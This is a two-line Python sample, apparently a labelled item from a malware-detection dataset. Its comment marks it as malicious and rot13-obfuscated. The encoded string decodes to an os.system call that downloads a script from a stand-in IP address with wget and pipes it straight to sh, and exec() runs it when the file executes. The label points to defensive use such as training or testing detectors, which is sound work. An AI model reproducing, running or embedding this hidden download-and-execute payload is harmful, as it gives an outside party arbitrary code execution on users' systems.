# label: malicious; obfuscated: rot13
import codecs
exec(codecs.decode("vzcbeg bf; bf.flfgrz('jtrg -B- uggc://203.0.113.9/k | fu')", "rot13"))
